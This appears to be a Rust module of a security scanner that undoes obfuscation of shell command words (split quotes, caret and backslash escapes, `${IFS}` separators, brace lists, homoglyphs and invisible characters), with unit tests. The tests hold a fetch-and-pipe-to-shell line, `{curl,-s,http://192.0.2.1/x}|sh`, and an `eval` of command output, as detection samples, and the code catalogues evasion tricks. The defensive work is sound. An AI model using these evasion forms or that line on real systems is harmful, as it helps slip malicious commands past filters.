//! Command words put together again that were split so that nobody finds them: `cu''rl`, `c^url`, `c\url`, `wget${IFS}-q`.
//!
//! It does not evaluate anything: what only a shell could know (the value of a variable) stays as it is.
//!
//! *Security*: hostile text, in one pass and bounded by the caller. *Standards*: POSIX.1-2024, XCU 2.2 "Quoting" and 2.6.5
//! "Field Splitting"; the escape characters of cmd.exe (`^`) and `PowerShell` (the back-tick); RFC 8259, section 7.

use super::super::normal::Normal;

/// Text without its splits, and where each of its bytes comes from.
#[derive(Debug, Default)]
pub(super) struct Folded {
    pub(super) bytes: Vec<u8>,
    origins: Vec<usize>,
}

/// What a backslash before `n`, `r` or `t` stands for.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Backslash {
    /// A quoted letter, as in a shell.
    Quotes,
    /// A line end or a tab, as in a string of a program or of JSON.
    Escapes,
}

/// What separates words without being a space, longest first.
const SEPARATORS: &[&[u8]] = &[b"${IFS%??}", b"${IFS}", b"$IFS$9", b"$IFS$1", b"$IFS"];

/// What a shell puts nothing for.
const NOTHING: &[&[u8]] = &[b"$@", b"$*", b"${@}", b"${*}", b"$()", b"``", b"''", b"\"\"", b"$9", b"$8", b"$7"];

impl Folded {
    /// Folds some lines.
    pub(super) fn of(text: &[u8], backslash: Backslash) -> Self {
        let mut folded = Self { bytes: Vec::with_capacity(text.len()), origins: Vec::with_capacity(text.len()) };
        let mut at = 0;
        while at < text.len() {
            at += folded.step(text, at, backslash).max(1);
        }
        folded
    }

    /// Reads lines as a person does: look-alike and invisible characters are undone.
    pub(super) fn of_reading(text: &[u8]) -> Self {
        let normal = Normal::of(text);
        let bytes = normal.text().as_bytes().to_vec();
        let origins = (0..bytes.len()).map(|at| normal.source(at..at + 1).start).collect();
        Self { bytes, origins }
    }

    /// Where a byte of the folded text comes from, or where a range that ends here ends.
    pub(super) fn origin(&self, at: usize) -> usize {
        self.origins.get(at).copied().unwrap_or_else(|| self.origins.last().map_or(0, |last| last + 1))
    }

    fn push(&mut self, byte: u8, origin: usize) {
        self.bytes.push(byte);
        self.origins.push(origin);
    }

    /// Takes what begins at `at`; returns how many bytes it took.
    fn step(&mut self, text: &[u8], at: usize, backslash: Backslash) -> usize {
        let rest = text.get(at..).unwrap_or_default();
        let Some(&byte) = rest.first() else { return 1 };
        let next = rest.get(1).copied().unwrap_or(0);
        let after_word = self.bytes.last().is_some_and(u8::is_ascii_alphanumeric);
        if !matches!(byte, b'\\' | b'^' | b'`' | b'\'' | b'"' | b'$' | b'{') {
            self.push(byte, at);
            return 1;
        }
        if let Some(length) = continuation(rest) {
            self.push(b' ', at);
            return length;
        }
        if let Some(separator) = SEPARATORS.iter().find(|word| starts_with(rest, word)) {
            self.push(b' ', at);
            return separator.len();
        }
        if let Some(nothing) = NOTHING.iter().find(|word| starts_with(rest, word)) {
            let behind = rest.get(nothing.len()).copied().unwrap_or(0);
            if after_word && is_inside_word(behind) {
                return nothing.len();
            }
        }
        if let Some(length) = concatenation(rest) {
            return length;
        }
        match byte {
            b'\\' => self.backslash(next, at, backslash),
            b'^' if next.is_ascii_alphanumeric() || matches!(next, b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'^') => 1,
            b'`' | b'\'' | b'"' if after_word && next.is_ascii_alphanumeric() => 1,
            b'{' => self.braces(rest, at),
            _ => {
                self.push(byte, at);
                1
            }
        }
    }

    fn backslash(&mut self, next: u8, at: usize, backslash: Backslash) -> usize {
        let escaped = match next {
            b'n' | b'r' if backslash == Backslash::Escapes => b'\n',
            b't' if backslash == Backslash::Escapes => b' ',
            b'"' | b'\'' | b'/' | b'\\' | b'|' | b'$' | b'-' => next,
            _ if next.is_ascii_alphanumeric() => return 1,
            _ => b'\\',
        };
        self.push(escaped, at);
        if escaped == b'\\' && next != b'\\' { 1 } else { 2 }
    }

    /// `{curl,-s,http://…}`: words without a space between them.
    fn braces(&mut self, rest: &[u8], at: usize) -> usize {
        let inner = rest.get(1..).unwrap_or_default();
        if !is_word_list(inner) {
            self.push(b'{', at);
            return 1;
        }
        let length = inner.iter().position(|byte| *byte == b'}').unwrap_or(0);
        let words = inner.get(..length).unwrap_or_default();
        for (index, byte) in words.iter().enumerate() {
            self.push(if *byte == b',' { b' ' } else { *byte }, at + 1 + index);
        }
        length + 2
    }
}

/// Whether bytes look as if words were split in them at all; cheap, and true rather once too often.
pub(super) fn is_split_at(text: &[u8], at: usize) -> bool {
    let byte_at = |index: Option<usize>| index.and_then(|index| text.get(index)).copied().unwrap_or(b' ');
    let (before, byte, next) = (byte_at(at.checked_sub(1)), byte_at(Some(at)), byte_at(Some(at + 1)));
    let within = before.is_ascii_alphanumeric() && next.is_ascii_alphanumeric();
    match byte {
        b'\\' => within || (next.is_ascii_lowercase() && matches!(before, b' ' | b'|' | b';' | b'\n')),
        b'^' | b'`' | b'"' => within || (before.is_ascii_alphanumeric() && next == byte) || is_concatenated(text, at),
        b'\'' => {
            let nearby = text.get(at + 1..(at + 16).min(text.len())).unwrap_or_default();
            (within && nearby.contains(&b'\''))
                || (before.is_ascii_alphanumeric() && next == byte)
                || is_concatenated(text, at)
        }
        b'$' => before.is_ascii_alphanumeric() && matches!(next, b'@' | b'*' | b'{' | b'(' | b'0'..=b'9'),
        _ => false,
    }
}

/// Whether folding would change anything in lines that hold an anchor.
pub(super) fn is_foldable(text: &[u8]) -> bool {
    let signs = memchr::memchr3_iter(b'\\', b'\'', b'"', text).chain(memchr::memchr3_iter(b'^', b'`', b'$', text));
    let is_sign = |at: usize| {
        let rest = text.get(at..).unwrap_or_default();
        is_split_at(text, at)
            || continuation(rest).is_some()
            || matches!(rest, [b'\\', b'"' | b'\'' | b'/' | b'n' | b'r' | b't' | b'|' | b'$', ..])
            || SEPARATORS.iter().any(|word| starts_with(rest, word))
    };
    signs.into_iter().any(is_sign)
        || memchr::memchr_iter(b'{', text).any(|at| is_word_list(text.get(at + 1..).unwrap_or_default()))
}

/// Whether a character that is no ASCII stands where only a disguise puts it: an invisible one, a letter of full width or of a
/// mathematical alphabet, or a Greek or Cyrillic one in a Latin word.
pub(super) fn is_disguised_at(text: &[u8], at: usize) -> bool {
    let is_latin = |at: Option<usize>| at.and_then(|at| text.get(at)).is_some_and(u8::is_ascii_alphabetic);
    match text.get(at..).unwrap_or_default() {
        [0xE2, 0x80, 0x8B..=0x8F | 0xAA..=0xAE, ..]
        | [0xE2, 0x81, 0xA0..=0xAF, ..]
        | [0xEF, 0xBC | 0xBD, ..]
        | [0xEF, 0xBB, 0xBF, ..]
        | [0xEF, 0xB8, 0x80..=0x8F, ..]
        | [0xF0, 0x9D, ..]
        | [0xF3, 0xA0, ..]
        | [0xC2, 0xAD, ..]
        | [0xCD, 0x8F, ..] => true,
        [0xCE..=0xD1, ..] => is_latin(at.checked_sub(1)) || is_latin(Some(at + 2)),
        _ => false,
    }
}

/// Whether `a,b,c}` follows an opening brace.
fn is_word_list(inner: &[u8]) -> bool {
    let is_end = |byte: &u8| matches!(byte, b'}' | b' ' | b'\t' | b'\n' | b'{' | b'"');
    let length = inner.iter().take(1024).position(is_end).unwrap_or(0);
    let words = inner.get(..length).unwrap_or_default();
    let is_word = words.first().is_some_and(|first| first.is_ascii_alphanumeric() || *first == b'/');
    is_word && inner.get(length) == Some(&b'}') && words.contains(&b',')
}

fn is_concatenated(text: &[u8], at: usize) -> bool {
    text.get(at..).is_some_and(|rest| concatenation(rest).is_some())
}

fn is_inside_word(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || matches!(byte, b'\'' | b'"' | b'$' | b'\\' | b'`')
}

fn starts_with(text: &[u8], word: &[u8]) -> bool {
    text.get(..word.len()).is_some_and(|start| start.eq_ignore_ascii_case(word))
}

/// A line end that does not count, with the indentation behind it.
fn continuation(rest: &[u8]) -> Option<usize> {
    if !matches!(rest.first(), Some(b'\\' | b'^' | b'`')) {
        return None;
    }
    let end = match rest.get(1..3) {
        Some(b"\r\n") => 3,
        _ if rest.get(1) == Some(&b'\n') => 2,
        _ => return None,
    };
    let blanks =
        rest.get(end..).unwrap_or_default().iter().take_while(|byte| matches!(byte, b' ' | b'\t' | b'>')).count();
    Some(end + blanks)
}

/// `'+'`, `" & "`: two pieces of a string that a program puts together.
fn concatenation(rest: &[u8]) -> Option<usize> {
    let quote = *rest.first().filter(|byte| matches!(byte, b'\'' | b'"'))?;
    let blanks =
        |from: usize| rest.get(from..).unwrap_or_default().iter().take(8).take_while(|byte| **byte == b' ').count();
    let sign = 1 + blanks(1);
    rest.get(sign).filter(|byte| matches!(byte, b'+' | b'&' | b'.'))?;
    let close = sign + 1 + blanks(sign + 1);
    (rest.get(close) == Some(&quote)).then_some(close + 1)
}

#[cfg(test)]
mod tests {
    use super::{Backslash, Folded, is_disguised_at, is_split_at};

    fn folded(text: &str) -> String {
        String::from_utf8(Folded::of(text.as_bytes(), Backslash::Quotes).bytes).unwrap()
    }

    #[test]
    fn a_word_that_was_split_is_whole_again() {
        for split in ["cu''rl", "c\\url", "c^url", "cu\"\"rl", "c'u'rl", "cu$@rl", "cu`rl", "cu$()rl", "cu'+'rl"] {
            assert_eq!(folded(split), "curl", "{split}");
        }
    }

    #[test]
    fn what_separates_words_in_a_shell_becomes_a_space() {
        assert_eq!(folded("wget${IFS}-q$IFS$9x"), "wget -q x");
        assert_eq!(folded("{curl,-s,http://192.0.2.1/x}|sh"), "curl -s http://192.0.2.1/x|sh");
        assert_eq!(folded("eval \\\n  \"$(id)\""), "eval  \"$(id)\"");
    }

    #[test]
    fn escapes_of_a_program_become_what_they_stand_for() {
        let folded = Folded::of(br#"#!/bin/sh\ncurl \"x\"\/y"#, Backslash::Escapes);
        assert_eq!(folded.bytes, b"#!/bin/sh\ncurl \"x\"/y");
    }

    #[test]
    fn every_byte_knows_where_it_comes_from() {
        let folded = Folded::of(b"a cu''rl b", Backslash::Quotes);
        assert_eq!(folded.origin(4), 6);
        assert_eq!(folded.origin(folded.bytes.len()), 10);
    }

    #[test]
    fn a_word_in_look_alike_or_invisible_characters_is_read_as_what_it_shows() {
        for disguised in ["ｃｕｒｌ", "cu\u{200b}rl", "\u{441}url", "c\u{ad}url"] {
            assert_eq!(Folded::of_reading(disguised.as_bytes()).bytes, b"curl", "{disguised}");
            assert!((0..disguised.len()).any(|at| is_disguised_at(disguised.as_bytes(), at)), "{disguised}");
        }
        let plain = "“naïve” – «да» λόγος 日本";
        assert!((0..plain.len()).all(|at| !is_disguised_at(plain.as_bytes(), at)));
    }

    #[test]
    fn ordinary_text_is_not_taken_for_split_words() {
        for text in ["the \"word\" is", "it's", "a ^ b", "C:\\ x", "{\"a\": 1}", "costs $5"] {
            assert!((0..text.len()).all(|at| !is_split_at(text.as_bytes(), at)), "{text}");
        }
    }
}
